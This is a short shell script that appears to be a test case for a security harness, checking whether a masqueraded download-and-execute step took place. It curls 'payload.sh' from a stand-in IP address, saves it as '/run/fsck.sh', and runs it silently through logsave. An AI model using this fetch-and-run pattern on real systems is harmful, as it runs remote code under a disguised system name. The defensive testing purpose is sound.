#!/bin/sh
. /opt/case/case.sh

curl -s -o /run/fsck.sh http://203.0.113.10/payload.sh && chmod 755 /run/fsck.sh
logsave -a /tmp/fsck.log /run/fsck.sh >/dev/null
test -e /tmp/reached
took_place
